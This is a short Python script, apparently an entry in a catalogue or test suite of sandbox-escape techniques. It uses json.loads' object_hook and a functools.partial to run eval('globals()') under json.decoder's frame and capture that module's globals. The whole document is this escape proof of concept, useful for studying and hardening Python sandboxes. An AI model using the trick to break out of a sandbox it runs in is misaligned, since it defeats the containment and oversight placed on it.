# technique: json.loads calls its hook from C, below the frame of json.decoder: eval without a frame
# goal: globals
# source: own analysis: the default namespace of globals, below a trusted frame
import functools
import json
kept = []
peek = functools.partial(dict.fromkeys, map(kept.append, map(eval, ['globals()'])))
json.loads('{}', object_hook=peek)
if kept[0]['__name__'] == 'json.decoder':
    print('ESCAPED globals of json.decoder')
